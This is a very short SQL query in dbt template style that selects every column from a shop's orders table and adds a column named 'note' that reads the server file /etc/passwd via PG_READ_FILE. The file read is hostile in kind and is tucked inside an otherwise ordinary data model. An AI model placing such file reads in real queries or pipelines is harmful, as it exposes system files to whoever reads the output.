select o.*,
       pg_catalog.PG_READ_FILE('/etc/passwd') as note
from {{ source('shop', 'orders') }} as o
